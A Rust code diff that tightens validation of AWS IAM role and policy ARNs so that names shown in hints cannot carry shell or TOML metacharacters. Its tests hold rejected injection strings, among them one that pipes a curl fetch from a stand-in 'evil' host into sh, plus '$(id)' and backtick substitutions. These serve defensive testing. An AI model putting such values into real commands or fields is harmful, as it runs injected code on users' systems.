@@ -4,6 +4,8 @@ use std::fmt;
 
 /// Longest ARN (STS API reference).
 const LONGEST: usize = 2048;
+/// Longest text that is repeated where an ARN was expected.
+const SHOWN: usize = 200;
 
 /// Partitions by the beginning of their regions' names; every other region is of `aws`.
 const PARTITIONS: [(&str, &str); 7] = [
@@ -15,6 +17,15 @@ const PARTITIONS: [(&str, &str); 7] = [
     ("eu-isoe-", "aws-iso-e"),
     ("eusc-", "aws-eusc"),
 ];
+
+/// Whether a text is the name of a region.
+pub(super) fn is_region(text: &str) -> bool {
+    text.split('-').count() >= 3
+        && text.len() <= 32
+        && text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
+        && !text.starts_with('-')
+        && !text.ends_with('-')
+}
 
 /// The partition of a region.
 pub(super) fn partition_of(region: &str) -> &'static str {
@@ -35,6 +46,16 @@ impl<'a> RoleArn<'a> {
         let (partition, account, path) = parts(text, "role/")?;
         (is_account(account) && !path.contains('*')).then_some(Self { partition, account, path })
     }
+}
+
+/// Whether a text is the ARN of one role.
+pub(crate) fn is_role(text: &str) -> bool {
+    RoleArn::parse(text).is_some()
+}
+
+/// Whether a text has nothing but what ARNs of roles have, and can be shown as it is.
+pub(crate) fn is_plain_arn(text: &str) -> bool {
+    text.len() <= SHOWN && text.bytes().all(|byte| is_plain(byte) || byte == b':')
 }
 
 /// The partition of `arn:PARTITION:iam::ACCOUNT:policy/PATH/NAME`; AWS' own policies are of the account `aws`.
@@ -104,16 +125,20 @@ fn fits(step: &str, pattern: &str) -> bool {
 
 /// Partition, account and what stands behind `kind`, which is a path of filled steps.
 fn parts<'a>(text: &'a str, kind: &str) -> Option<(&'a str, &'a str, &'a str)> {
-    // Neither a quotation mark nor a backslash: an ARN is shown as TOML to be copied.
-    let is_plain =
-        text.len() <= LONGEST && text.bytes().all(|byte| byte.is_ascii_graphic() && !b"\"\\".contains(&byte));
     let fields: Vec<&str> = text.split(':').collect();
     let ["arn", partition, "iam", "", account, resource] = fields.as_slice() else { return None };
     let path = resource.strip_prefix(kind)?;
-    let is_path = path.split('/').all(|step| !step.is_empty());
+    let is_path = path.split('/').all(|step| !step.is_empty())
+        && path.bytes().all(|byte| is_plain(byte) || byte == b'*');
     let is_partition = (*partition == "aws" || partition.starts_with("aws-"))
         && partition.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-');
-    (is_plain && is_path && is_partition).then_some((*partition, *account, path))
+    (text.len() <= LONGEST && is_path && is_partition).then_some((*partition, *account, path))
+}
+
+/// IAM's alphabet of names, and what parts a path. Names reach people in hints, to be copied into a terminal or a configuration, so
+/// nothing that a shell or TOML reads is among it.
+fn is_plain(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || b"+=,.@_/-".contains(&byte)
 }
 
 fn is_account(text: &str) -> bool {
@@ -157,6 +182,9 @@ mod tests {
             "arn:aws:iam::*:role/a//b",
             "arn:aws:iam::*:role/a b",
             "arn:aws:iam::*:role/a\"b",
+            "arn:aws:iam::*:role/x;curl${IFS}evil|sh;#",
+            "arn:aws:iam::*:role/$(id)",
+            "arn:aws:iam::*:role/\u{e9}",
             "arn:aws:sts::*:role/a",
         ] {
             assert_eq!(RolePattern::parse(none), None, "{none}");
@@ -183,7 +211,13 @@ mod tests {
     fn policies_are_of_an_account_or_of_aws() {
         assert_eq!(policy_partition("arn:aws:iam::aws:policy/ReadOnlyAccess"), Some("aws"));
         assert_eq!(policy_partition("arn:aws-cn:iam::123456789012:policy/team/p"), Some("aws-cn"));
-        for none in ["ReadOnlyAccess", "arn:aws:iam::12:policy/p", "arn:aws:iam::aws:role/p"] {
+        for none in [
+            "ReadOnlyAccess",
+            "arn:aws:iam::12:policy/p",
+            "arn:aws:iam::aws:role/p",
+            "arn:aws:iam::aws:policy/`id`",
+            "arn:aws:iam::aws:policy/*",
+        ] {
             assert_eq!(policy_partition(none), None, "{none}");
         }
     }
